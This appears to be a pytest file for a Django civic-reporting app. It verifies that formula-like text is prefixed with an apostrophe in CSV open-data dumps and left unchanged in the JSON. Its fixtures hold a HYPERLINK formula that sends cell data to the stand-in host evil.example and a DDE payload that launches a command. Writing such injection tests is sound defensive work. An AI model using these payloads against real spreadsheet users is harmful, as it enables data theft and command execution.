"""Formula injection through the open data: a published title, text, address or agency message
that starts like a formula is behind an apostrophe in the CSV files of the dump (what people
open in a spreadsheet), and unchanged in the JSON (which no spreadsheet reads as formulas)."""

from __future__ import annotations

import csv
import gzip
import io
import json

import pytest
from django.core.files.storage import default_storage

from lapor.opendata import dump
from tests.open311.conftest import file_report, make_public

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?d="&B2,"Lihat foto")'
BODY = "+cmd|' /C calc'!A0 lubang besar"
ADDRESS = "-1+1 Jl. Kaliurang"
MESSAGE = "@SUM(1+1) sudah kami tambal"


def _files() -> dict[str, str]:
    out = {}
    for f in dump.write_dump()["files"]:
        with default_storage.open(f["path"], "rb") as fh:
            out[f["name"]] = gzip.decompress(fh.read()).decode()
    return out


def test_formula_like_text_is_text_in_the_csv_files(cast, directory):
    report = make_public(
        file_report("public", title=TITLE, body=BODY, address=ADDRESS),
        cast,
        directory,
        follow_up=MESSAGE,
    )
    files = _files()
    (row,) = list(csv.DictReader(io.StringIO(files["reports.csv.gz"])))
    assert row["tracking_id"] == report.tracking_id
    assert row["title"] == "'" + TITLE
    assert row["description"] == "'" + BODY
    assert row["address"] == "'" + ADDRESS
    events = list(csv.DictReader(io.StringIO(files["timeline.csv.gz"])))
    follow_up = next(e for e in events if e["kind"] == "follow_up")
    assert follow_up["message"] == "'" + MESSAGE
    for line in files["reports.csv.gz"].splitlines() + files["timeline.csv.gz"].splitlines():
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@")), cell
    # The JSON keeps the text as written.
    (record,) = json.loads(files["reports.json.gz"])["reports"]
    assert record["title"] == TITLE and record["address"] == ADDRESS
